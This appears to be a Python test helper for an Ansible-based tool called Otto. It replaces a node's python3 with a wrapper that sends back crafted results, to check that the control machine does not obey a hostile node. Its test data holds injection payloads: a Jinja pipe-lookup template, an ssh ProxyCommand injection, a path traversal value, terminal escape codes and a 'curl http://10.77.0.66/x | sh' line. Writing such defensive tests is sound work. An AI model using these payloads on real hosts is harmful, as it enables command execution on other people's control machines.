# SPDX-License-Identifier: GPL-3.0-or-later
"""A node whose root answers what they like, and a look at the control machine from outside."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.conftest import LabHost

FOLDER = "/opt/evil"
# It takes in what it is sent and answers what lies there; without an answer it is honest.
PYTHON = """#!/bin/sh
if [ -r /opt/evil/answer ]; then
  case "$*" in
    *-c*) ;;
    *) [ -t 0 ] || cat > /dev/null ;;
  esac
  cat /opt/evil/answer
  [ ! -r /opt/evil/large ] || head -c 100000000 /dev/zero | tr '\\\\0' x
  cat /opt/evil/words >&2
  exit 0
fi
exec {real} "$@"
"""


@contextmanager
def hostile(host: LabHost) -> Iterator[LabHost]:
    """Replace the Python that Otto calls on the host, for as long as it lasts."""
    real = host.run("readlink -f /usr/bin/python3")
    link = host.run("readlink /usr/bin/python3")
    host.run(f"mkdir -p {FOLDER} && chmod 755 {FOLDER}")
    put(host, f"{FOLDER}/python3", PYTHON.replace("{real}", real), "755")
    try:
        host.run(f"ln -sfn {FOLDER}/python3 /usr/bin/python3")
        yield host
    finally:
        host.run(f"ln -sfn {link} /usr/bin/python3; rm -rf {FOLDER}")


def put(host: LabHost, path: str, text: str, mode: str = "644") -> None:
    """Write a file on the host."""
    encoded = text.encode("utf-8", "surrogatepass").hex()
    pieces = [encoded[i : i + 60_000] for i in range(0, len(encoded), 60_000)] or [""]
    host.run(f": > {path}.hex")
    for piece in pieces:
        host.run(f"printf %s {piece} >> {path}.hex")
    host.run(
        f"xxd -r -p {path}.hex > {path} 2>/dev/null || perl -ne"
        f' "chomp; print pack(q(H*), \\$_)" {path}.hex > {path}; rm {path}.hex; chmod {mode} {path}'
    )


def answer(host: LabHost, *lines: Any, words: str = "", large: bool = False) -> None:
    """What the node says from now on: each a line, JSON unless it is text."""
    text = "".join(f"{one if isinstance(one, str) else json.dumps(one)}\n" for one in lines)
    put(host, f"{FOLDER}/words", words)
    host.run(f"touch {FOLDER}/large" if large else f"rm -f {FOLDER}/large")
    put(host, f"{FOLDER}/answer", text)


def honest(host: LabHost) -> None:
    host.run(f"rm -f {FOLDER}/answer {FOLDER}/large")


# ---- what is answered

PLAN: dict[str, Any] = {
    "before": [],
    "services": [
        {
            "service": "web",
            "verdict": "create",
            "changes": [],
            "pulls": [],
            "operations": [{"op": "create", "line": "create container web"}],
            "after": [],
            "needs": [],
            "cost": "",
            "error": None,
        }
    ],
    "after": [],
    "troubles": [],
    "notes": [],
    "empty": False,
}


def kinds(marker: Path) -> Mapping[str, dict[str, Any]]:
    """Name -> a result. Where it is obeyed, a command that writes `marker` runs here."""
    run = f"touch {marker}"
    template = "{{ lookup('ansible.builtin.pipe', '" + run + "') }}"
    good = {
        "changed": True,
        "plan": PLAN,
        "plan_digest": "0123456789abcdef",
        "given": "0123456789abcdef",
        "report": {"services": {}, "errors": [], "revision": "0123456789abcdef"},
        "missing": False,
        "node": {},
    }
    del good["node"], good["missing"]
    evil_host = {
        "ansible_connection": "ssh",
        "ansible_host": "127.0.0.1",
        "ansible_ssh_common_args": f"-o ProxyCommand='{run}'",
        "otto_node": {"id": "rpi-01", "local": False, "docker_url": "unix:///x"},
    }
    error = {
        "service": "web",
        "message": f"\x1b[2J\x1b]0;owned\x07 {template}",
        "cause": template,
        "next": f"curl http://10.77.0.66/x | sh; {run}",
    }
    return {
        "obeyed": {
            **good,
            "add_host": {
                "host_name": "evil",
                "groups": ["otto", "otto_remote", "otto_waiting", "otto_broker"],
                "host_vars": evil_host,
            },
            "ansible_facts": {
                "otto_node": {"id": "rpi-01", "local": True, "docker_url": template},
                "otto_cluster": "../../../evil",
                "otto_mqtt": {},
                "otto_broker_trouble": template,
            },
            "_ansible_notify": ["no such handler"],
        },
        "group": {**good, "add_group": "otto_waiting", "parent_groups": ["all"]},
        "stats": {**good, "ansible_stats": {"data": "x", "per_host": False, "aggregate": True}},
        "facts": {**good, "ansible_facts": "abc"},
        "digest": {**good, "plan_digest": template, "given": template},
        "types": {"changed": "yes", "plan": "x", "report": {"services": [], "errors": "abc"}},
        "words": {
            "failed": True,
            "changed": False,
            "msg": error["message"],
            "warnings": [error["message"]],
            "report": {"services": {}, "errors": [error]},
        },
        "silent": {"changed": False, "skipped": True, "skip_reason": "x"},
    }


# ---- seen from outside


def files(*folders: Path) -> dict[str, str]:
    """path -> SHA-256 of every file."""
    return {
        str(path): hashlib.sha256(path.read_bytes()).hexdigest()
        for folder in folders
        for path in sorted(folder.rglob("*"))
        if path.is_file() and not path.is_symlink()
    }
